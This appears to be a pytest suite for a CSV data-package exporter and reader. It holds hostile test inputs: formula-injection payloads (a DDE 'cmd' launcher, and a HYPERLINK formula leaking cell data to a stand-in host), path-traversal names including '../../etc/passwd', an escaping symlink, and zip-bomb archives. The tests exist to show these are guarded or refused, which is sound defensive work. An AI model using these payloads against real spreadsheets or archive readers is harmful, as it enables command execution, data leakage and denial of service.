"""The CSV Frictionless Data Package: lossless, deterministic, valid, and safe to open."""

from __future__ import annotations

import csv
import io
import json
import struct
import zipfile
from pathlib import Path

import attrs
import frictionless
import pytest
from click.testing import CliRunner
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from oas_program import default_program, pipeline
from oas_program.builtin import csv_package, relational
from oas_program.cli import cli
from oas_program.errors import DataError, ExitCode
from oas_program.files.cells import FORMULA_PREFIXES, restore
from oas_program.model import Program
from oas_program.model.program import FORMAT_VERSION
from oas_program.plugin_api import ExportOptions
from oas_program.plugins.host import PluginHost
from tests.strategies import programs, words

INJECTIONS = ('=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1")


@pytest.fixture(scope="module")
def host() -> PluginHost:
    return PluginHost(entrypoints=False, strict=True)


def zip_bytes(host: PluginHost, program: Program, options: ExportOptions | None = None) -> bytes:
    buffer = io.BytesIO()
    host.exporter("csv").write(program, buffer, options or ExportOptions())
    return buffer.getvalue()


def write_dir(host: PluginHost, program: Program, folder: Path, **options: bool) -> Path:
    folder.mkdir()
    write = host.exporter("csv").write_dir
    assert write is not None
    write(program, folder, ExportOptions(**options))
    return folder


def read(host: PluginHost, path: Path) -> Program:
    return pipeline.read_program(
        path, display=path.name if path.is_file() else f"{path.name}/", host=host
    )


def unique_ids(program: Program) -> bool:
    return all(
        len({e.id for e in getattr(program, t.field[0])}) == len(getattr(program, t.field[0]))
        for t in relational.entity_tables()
    )


# ---- lossless, deterministic, valid -------------------------------------------------------


def test_embedded_program_round_trips_as_zip_and_directory(
    host: PluginHost, tmp_path: Path
) -> None:
    program = default_program()
    archive = tmp_path / "program.zip"
    archive.write_bytes(zip_bytes(host, program))
    assert read(host, archive) == program
    folder = write_dir(host, program, tmp_path / "program")
    assert read(host, folder) == program
    assert read(host, folder / "datapackage.json") == program


@settings(max_examples=40)
@given(programs)
def test_any_program_round_trips(
    host: PluginHost, tmp_path_factory: pytest.TempPathFactory, program: Program
) -> None:
    assume(unique_ids(program))
    path = tmp_path_factory.mktemp("csv") / "program.zip"
    path.write_bytes(zip_bytes(host, program))
    assert read(host, path) == program


def test_output_is_deterministic_and_the_directory_holds_the_zip_members(
    host: PluginHost, tmp_path: Path
) -> None:
    program = default_program()
    first, second = zip_bytes(host, program), zip_bytes(host, program)
    assert first == second
    folder = write_dir(host, program, tmp_path / "package")
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        names = archive.namelist()
        assert names[0] == "datapackage.json"
        assert names[1:] == sorted(names[1:])
        for info in archive.infolist():
            assert info.date_time == (1980, 1, 1, 0, 0, 0)
            assert info.external_attr >> 16 == 0o100644
            assert archive.read(info) == (folder / info.filename).read_bytes()
    on_disk = sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file())
    assert on_disk == sorted(names)


def test_descriptor_declares_types_keys_and_references(host: PluginHost, tmp_path: Path) -> None:
    folder = write_dir(host, default_program(), tmp_path / "package")
    package = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    assert package["profile"] == "tabular-data-package"
    assert package["oas_program"] == {"format_version": FORMAT_VERSION, "formula_guard": True}
    assert "licenses" not in package  # the data's licence is not ours to state
    resources = {r["name"]: r for r in package["resources"]}
    schema = resources["activities_assignments"]["schema"]
    assert schema["primaryKey"] == ["activity_id", "position"]
    assert {
        "fields": ["activity_id"],
        "reference": {"resource": "activities", "fields": ["id"]},
    } in (schema["foreignKeys"])
    assert {"fields": ["actor"], "reference": {"resource": "actors", "fields": ["id"]}} in (
        schema["foreignKeys"]
    )
    objectives = resources["objectives"]["schema"]
    assert {"fields": ["parent"], "reference": {"resource": "", "fields": ["id"]}} in (
        objectives["foreignKeys"]
    )
    fields = {f["name"]: f for f in resources["activities"]["schema"]["fields"]}
    assert fields["addressee"]["constraints"] == {
        "required": True,
        "enum": ["oas", "member-states", "multilateral", "civil-society"],
    }
    assert fields["added"]["type"] == "boolean"
    assert resources["activities"]["path"] == "data/activities.csv"


@pytest.mark.parametrize("container", ["directory", "zip"])
def test_frictionless_validates_the_export(
    host: PluginHost, tmp_path: Path, container: str
) -> None:
    program = default_program()
    if container == "zip":
        target = tmp_path / "program.zip"
        target.write_bytes(zip_bytes(host, program))
        report = frictionless.validate(str(target))
    else:
        folder = write_dir(host, program, tmp_path / "package")
        report = frictionless.validate(str(folder / "datapackage.json"))
    assert report.valid, report.flatten(["resourceName", "rowNumber", "fieldName", "note"])[:5]
    assert report.stats["tasks"] == len(program_tables())


def test_frictionless_reports_a_reference_to_an_unrecorded_id(
    host: PluginHost, tmp_path: Path
) -> None:
    # The model admits it (the validators report it); the package keeps it, declared.
    program = default_program()
    first = program.activities[0]
    dangling = attrs.evolve(
        first, assignments=(attrs.evolve(first.assignments[0], actor="nobody"),)
    )
    program = attrs.evolve(program, activities=(dangling, *program.activities[1:]))
    folder = write_dir(host, program, tmp_path / "package")
    assert read(host, folder) == program
    report = frictionless.validate(str(folder / "datapackage.json"))
    assert [e[1:] for e in report.flatten(["resourceName", "type", "rowNumber"])] == [
        ["foreign-key", 2]
    ]


def program_tables() -> list[str]:
    from oas_program.model.tables import layout

    return [t.name for t in layout()]


# ---- formula guard ------------------------------------------------------------------------


def _with_labels(labels: tuple[str, ...]) -> Program:
    program = default_program()
    changed = [
        attrs.evolve(activity, label=label)
        for activity, label in zip(program.activities, labels, strict=False)
    ]
    return attrs.evolve(program, activities=(*changed, *program.activities[len(changed) :]))


def _cells(
    host: PluginHost, program: Program, table: str, column: str, **options: bool
) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(zip_bytes(host, program, ExportOptions(**options)))) as z:
        text = z.read(f"data/{table}.csv").decode("utf-8")
    return [row[column] for row in csv.DictReader(io.StringIO(text, newline=""))]


def test_formula_cells_are_guarded_inside_the_quotes_and_restored(
    host: PluginHost, tmp_path: Path
) -> None:
    program = _with_labels(INJECTIONS)
    labels = _cells(host, program, "activities", "label_en")
    assert labels[: len(INJECTIONS)] == ["'" + s for s in INJECTIONS]
    raw = zip_bytes(host, program)
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        text = archive.read("data/activities.csv").decode("utf-8")
    assert '"\'=HYPERLINK(""http://x/?""&A1)"' in text  # the guard sits inside the quotes
    # Numbers are not text: counts and positions are written as they are.
    assert _cells(host, program, "declarations", "count") == ["33", "70", "100"]
    path = tmp_path / "guarded.zip"
    path.write_bytes(raw)
    assert read(host, path) == program


def test_raw_cells_are_written_as_they_are_and_still_round_trip(
    host: PluginHost, tmp_path: Path
) -> None:
    program = _with_labels((*INJECTIONS, "'already quoted"))
    labels = _cells(host, program, "activities", "label_en", raw_cells=True)
    assert labels[: len(INJECTIONS) + 1] == [*INJECTIONS, "'already quoted"]
    path = tmp_path / "raw.zip"
    path.write_bytes(zip_bytes(host, program, ExportOptions(raw_cells=True)))
    with zipfile.ZipFile(path) as archive:
        package = json.loads(archive.read("datapackage.json"))
    assert package["oas_program"]["formula_guard"] is False
    assert read(host, path) == program


@settings(max_examples=30)
@given(st.sampled_from(("", *FORMULA_PREFIXES, "'")), words)
def test_stripping_the_guard_from_a_cell_gives_back_the_label(
    host: PluginHost, prefix: str, text: str
) -> None:
    label = prefix + text
    (cell,) = _cells(host, _with_labels((label,)), "activities", "label_en")[:1]
    assert restore(cell) == label


def test_raw_cells_on_the_command_line(tmp_path: Path) -> None:
    target = tmp_path / "raw.zip"
    result = CliRunner().invoke(cli, ["export", "-f", "csv", "--raw-cells", "-o", str(target)])
    assert result.exit_code == 0, result.stderr
    with zipfile.ZipFile(target) as archive:
        assert json.loads(archive.read("datapackage.json"))["oas_program"]["formula_guard"] is False


# ---- CSV problems, located ----------------------------------------------------------------


@pytest.fixture
def package(host: PluginHost, tmp_path: Path) -> Path:
    return write_dir(host, default_program(), tmp_path / "pkg")


def _edit(package: Path, table: str, edit: object) -> Path:
    path = package / "data" / f"{table}.csv"
    lines = path.read_bytes().split(b"\r\n")
    assert callable(edit)
    edit(lines)
    path.write_bytes(b"\r\n".join(lines))
    return path


def _problems(host: PluginHost, package: Path) -> tuple[int, list[tuple[object, ...]]]:
    with pytest.raises(DataError) as caught:
        read(host, package)
    found = [(p.file, p.line, p.column, p.code) for p in caught.value.problems]
    return caught.value.exit_code, found


ASSIGNMENTS = "pkg/data/activities_assignments.csv"


def test_a_byte_that_is_not_utf8_is_located(host: PluginHost, package: Path) -> None:
    def edit(lines: list[bytes]) -> None:
        lines[4] = lines[4].replace(b"responsible", b"respons\xe9ble")

    _edit(package, "activities_assignments", edit)
    with pytest.raises(DataError) as caught:
        read(host, package)
    assert caught.value.exit_code == ExitCode.UNREADABLE
    assert [str(p) for p in caught.value.problems] == [
        f"{ASSIGNMENTS}:5:38: not valid UTF-8 (byte 0xe9); re-save the file as UTF-8 [encoding]"
    ]


def test_blank_and_duplicate_headers(host: PluginHost, package: Path) -> None:
    def edit(lines: list[bytes]) -> None:
        lines[0] = b"activity_id,position,,actor,actor"

    _edit(package, "activities_assignments", edit)
    with pytest.raises(DataError) as caught:
        read(host, package)
    messages = [str(p) for p in caught.value.problems]
    assert f"{ASSIGNMENTS}:1: column 3: blank header [blank-label]" in messages
    assert f"{ASSIGNMENTS}:1: column 5: duplicate header 'actor' [duplicate-label]" in messages
    assert caught.value.exit_code == ExitCode.UNREADABLE


def test_extra_and_missing_cells_in_every_row_are_reported(host: PluginHost, package: Path) -> None:
    def edit(lines: list[bytes]) -> None:
        lines[4] += b",surplus"
        lines[6] = b"iachr-3,2,iachr"

    _edit(package, "activities_assignments", edit)
    with pytest.raises(DataError) as caught:
        read(host, package)
    assert [str(p) for p in caught.value.problems] == [
        f"{ASSIGNMENTS}:5: 5 cells, header has 4 [extra-cell]",
        f"{ASSIGNMENTS}:7: column 'role' missing [missing-cell]",
    ]


def test_an_unterminated_quote_stops_with_the_line_it_opened(
    host: PluginHost, package: Path
) -> None:
    def edit(lines: list[bytes]) -> None:
        lines[3] = b'iachr-2,1,"iachr,responsible'

    _edit(package, "activities_assignments", edit)
    code, found = _problems(host, package)
    assert (code, found) == (ExitCode.UNREADABLE, [(ASSIGNMENTS, 4, None, "csv-syntax")])


def test_nul_and_blank_rows_are_located(host: PluginHost, package: Path) -> None:
    def edit(lines: list[bytes]) -> None:
        lines[2] = b"iachr-1,2,iachr-\x00rapporteur,co-responsible"
        lines.insert(5, b"")
        lines.insert(6, b",,,")

    _edit(package, "activities_assignments", edit)
    code, found = _problems(host, package)
    assert code == ExitCode.UNREADABLE
    assert found == [
        (ASSIGNMENTS, 3, 3, "control-char"),
        (ASSIGNMENTS, 6, None, "blank-row"),
        (ASSIGNMENTS, 7, None, "blank-row"),
    ]


def test_a_field_longer_than_the_limit_is_refused(host: PluginHost, package: Path) -> None:
    def edit(lines: list[bytes]) -> None:
        lines[1] = b"iachr-1,1,iachr," + b"x" * (csv_package.FIELD_LIMIT + 1)

    _edit(package, "activities_assignments", edit)
    before = csv.field_size_limit()
    code, found = _problems(host, package)
    assert (code, found) == (ExitCode.UNREADABLE, [(ASSIGNMENTS, 2, None, "csv-syntax")])
    assert csv.field_size_limit() == before  # the process-wide limit is put back


def test_a_codelist_typo_names_file_line_and_column(host: PluginHost, package: Path) -> None:
    def edit(lines: list[bytes]) -> None:
        lines[5] = lines[5].replace(b",responsible", b",responsable")

    _edit(package, "activities_assignments", edit)
    code, found = _problems(host, package)
    assert (code, found) == (ExitCode.INVALID, [(ASSIGNMENTS, 6, 4, "codelist")])


def test_a_byte_order_mark_is_accepted(host: PluginHost, package: Path) -> None:
    path = package / "data" / "activities.csv"
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    assert read(host, package) == default_program()


def test_problems_exit_3_on_the_command_line(package: Path) -> None:
    def edit(lines: list[bytes]) -> None:
        lines[4] += b",surplus"

    _edit(package, "activities_assignments", edit)
    result = CliRunner().invoke(cli, ["convert", str(package), str(package.parent / "x.json")])
    assert result.exit_code == 3
    assert result.stderr.strip().endswith(
        "data/activities_assignments.csv:5: 5 cells, header has 4 [extra-cell]"
    )
    assert not (package.parent / "x.json").exists()


def test_a_missing_or_unknown_table_is_named(host: PluginHost, package: Path) -> None:
    descriptor = package / "datapackage.json"
    data = json.loads(descriptor.read_text(encoding="utf-8"))
    data["resources"] = [r for r in data["resources"] if r["name"] != "sources"]
    descriptor.write_text(json.dumps(data), encoding="utf-8")
    code, found = _problems(host, package)
    assert (code, found) == (
        ExitCode.UNREADABLE,
        [("pkg/datapackage.json", None, None, "missing-table")],
    )
    data["resources"].append({"name": "secrets", "path": "data/sources.csv"})
    data["resources"].append({"name": "sources", "path": "../../etc/passwd"})
    descriptor.write_text(json.dumps(data), encoding="utf-8")
    code, found = _problems(host, package)
    assert [f[3] for f in found] == ["unknown-table", "unsafe-path"]


def test_a_symlink_out_of_the_package_is_refused(
    host: PluginHost, package: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "outside.csv"
    target = package / "data" / "sources.csv"
    outside.write_bytes(target.read_bytes())
    target.unlink()
    target.symlink_to(outside)
    assert _problems(host, package) == (
        ExitCode.UNREADABLE,
        [("pkg/data/sources.csv", None, None, "unsafe-path")],
    )


# ---- ZIP safety ---------------------------------------------------------------------------


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _members(host: PluginHost) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(zip_bytes(host, default_program()))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _read_zip(host: PluginHost, tmp_path: Path, data: bytes) -> list[tuple[object, ...]]:
    path = tmp_path / "evil.zip"
    path.write_bytes(data)
    with pytest.raises(DataError) as caught:
        pipeline.read_program(path, display="evil.zip", host=host)
    assert caught.value.exit_code == ExitCode.UNREADABLE
    return [(p.file, p.code, p.message) for p in caught.value.problems]


@pytest.mark.parametrize(
    "name", ["../x.csv", "/etc/x.csv", "data/../../x.csv", "C:/x.csv", "a\\..\\x"]
)
def test_unsafe_member_names_are_refused(host: PluginHost, tmp_path: Path, name: str) -> None:
    members = _members(host)
    members[name] = b"x"
    assert _read_zip(host, tmp_path, _zip(members)) == [
        ("evil.zip", "zip-unsafe", f"unsafe member name {name!r}")
    ]


def test_a_member_declaring_a_huge_size_is_refused_before_reading(
    host: PluginHost, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    data = bytearray(_zip(_members(host)))
    # Patch the central directory: the first member now claims 2 GiB uncompressed.
    offset = data.index(b"PK\x01\x02")
    struct.pack_into("<I", data, offset + 24, 2**31)

    def never(*args: object, **kwargs: object) -> object:
        raise AssertionError("a member was read")

    monkeypatch.setattr(zipfile.ZipFile, "open", never)
    [(file, code, message)] = _read_zip(host, tmp_path, bytes(data))
    assert (file, code) == ("evil.zip", "zip-bomb")
    assert "would expand to 2048 MiB" in message


def test_an_archive_over_the_ratio_is_refused(host: PluginHost, tmp_path: Path) -> None:
    members = _members(host)
    members["padding.txt"] = b"\x00" * (8 * 1024 * 1024)
    [(file, code, message)] = _read_zip(host, tmp_path, _zip(members))
    assert (file, code) == ("evil.zip", "zip-bomb")
    assert message.startswith("padding.txt would expand to 8 MiB (ratio ")


def test_a_zipped_folder_is_read(host: PluginHost, tmp_path: Path) -> None:
    members = {f"program/{name}": data for name, data in _members(host).items()}
    path = tmp_path / "folder.zip"
    path.write_bytes(_zip(members))
    assert pipeline.read_program(path, host=host) == default_program()


def test_problems_in_an_archive_name_the_member(host: PluginHost, tmp_path: Path) -> None:
    members = _members(host)
    members["data/sources.csv"] += b"extra,row\r\n"
    path = tmp_path / "evil.zip"
    path.write_bytes(_zip(members))
    with pytest.raises(DataError) as caught:
        pipeline.read_program(path, display="evil.zip", host=host)
    assert [str(p) for p in caught.value.problems] == [
        "evil.zip!data/sources.csv:65: columns 'title_status', 'title_en', 'title_es', 'title_fr', "
        "'title_pt', 'url', 'copy_url', 'symbol', 'date' missing [missing-cell]"
    ]


def test_text_named_zip_is_a_format_mismatch(host: PluginHost, tmp_path: Path) -> None:
    found = _read_zip(host, tmp_path, b"id,name\r\n1,x\r\n")
    assert found == [("evil.zip", "format-mismatch", "not a CSV file")]


def test_an_archive_without_a_descriptor(host: PluginHost, tmp_path: Path) -> None:
    found = _read_zip(host, tmp_path, _zip({"data/sources.csv": b"id\r\n"}))
    assert found == [("evil.zip", "not-a-package", "no datapackage.json at the top of the archive")]


# ---- the command: directories ---------------------------------------------------------------


def test_export_to_a_directory_replaces_a_previous_export(tmp_path: Path) -> None:
    target = tmp_path / "out"
    runner = CliRunner()
    first = runner.invoke(cli, ["export", "-f", "csv", "-o", f"{target}/"])
    assert first.exit_code == 0, first.stderr
    assert (target / "datapackage.json").is_file()
    (target / "data" / "sources.csv").write_bytes(b"stale")
    again = runner.invoke(cli, ["export", "-f", "csv", "-o", str(target)])
    assert again.exit_code == 0, again.stderr
    assert read(PluginHost(entrypoints=False), target) == default_program()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]  # nothing left beside it


def test_a_directory_with_other_files_is_not_replaced(tmp_path: Path) -> None:
    target = tmp_path / "mine"
    target.mkdir()
    (target / "notes.txt").write_text("keep me", encoding="utf-8")
    result = CliRunner().invoke(cli, ["export", "-f", "csv", "-o", str(target)])
    assert result.exit_code == 2
    assert "[output-exists]" in result.stderr and "notes.txt" in result.stderr
    assert [p.name for p in target.iterdir()] == ["notes.txt"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["mine"]


def test_a_single_file_format_refuses_a_directory(tmp_path: Path) -> None:
    result = CliRunner().invoke(cli, ["export", "-f", "json", "-o", f"{tmp_path}/"])
    assert result.exit_code == 2
    assert "[output-is-directory]" in result.stderr


def test_convert_to_a_directory_picks_the_csv_package(tmp_path: Path) -> None:
    source = tmp_path / "program.json"
    assert CliRunner().invoke(cli, ["export", "-o", str(source)]).exit_code == 0
    result = CliRunner().invoke(cli, ["convert", str(source), f"{tmp_path}/package/"])
    assert result.exit_code == 0, result.stderr
    assert read(PluginHost(entrypoints=False), tmp_path / "package") == default_program()
    inside = CliRunner().invoke(
        cli, ["convert", str(tmp_path / "package" / "datapackage.json"), str(tmp_path / "package")]
    )
    assert inside.exit_code == 2 and "[output-is-input]" in inside.stderr


def test_a_duplicate_id_cannot_be_written(host: PluginHost) -> None:
    program = default_program()
    twin = attrs.evolve(program.sources[1], id=program.sources[0].id)
    program = attrs.evolve(program, sources=(program.sources[0], twin, *program.sources[2:]))
    with pytest.raises(DataError) as caught:
        zip_bytes(host, program)
    assert caught.value.exit_code == ExitCode.INVALID
    assert [(p.pointer, p.code) for p in caught.value.problems] == [
        ("/sources/1/id", "duplicate-id")
    ]


def test_a_failing_export_leaves_the_previous_directory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "out"
    assert CliRunner().invoke(cli, ["export", "-f", "csv", "-o", f"{target}/"]).exit_code == 0
    before = {p: p.read_bytes() for p in target.rglob("*") if p.is_file()}
    calls: list[str] = []
    real = csv_package.table_csv

    def failing(*args: object, **kwargs: object) -> bytes:
        calls.append("x")
        if len(calls) == 10:
            raise RuntimeError("disk on fire")
        return real(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(csv_package, "table_csv", failing)
    result = CliRunner().invoke(cli, ["export", "-f", "csv", "-o", str(target)])
    assert result.exit_code == 5
    assert "disk on fire [plugin-error]" in result.stderr
    assert {p: p.read_bytes() for p in target.rglob("*") if p.is_file()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


def test_a_directory_without_a_descriptor_is_unreadable(host: PluginHost, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    with pytest.raises(DataError) as caught:
        pipeline.read_program(tmp_path / "empty", display="empty/", host=host)
    assert [str(p) for p in caught.value.problems] == [
        "empty/: cannot read: a directory without a datapackage.json [input-unreadable]"
    ]


def test_the_archive_s_compression_level_is_an_option(host: PluginHost, tmp_path: Path) -> None:
    sizes = {}
    for level in ("0", "9"):
        out = tmp_path / f"level-{level}.zip"
        result = CliRunner().invoke(
            cli, ["export", "-f", "csv", "-O", f"level={level}", "-o", str(out)]
        )
        assert result.exit_code == 0, result.output
        assert read(host, out) == default_program()
        with zipfile.ZipFile(out) as archive:
            kinds = {info.compress_type for info in archive.infolist()}
        assert kinds == {zipfile.ZIP_DEFLATED}
        sizes[level] = out.stat().st_size
    assert sizes["9"] < sizes["0"] / 3  # 0 stores, 9 compresses most
    out = tmp_path / "level-12.zip"
    result = CliRunner().invoke(cli, ["export", "-f", "csv", "-O", "level=12", "-o", str(out)])
    assert result.exit_code == ExitCode.USAGE
    assert "option level=12: expected 0 (store) to 9" in result.output
    assert not out.exists()
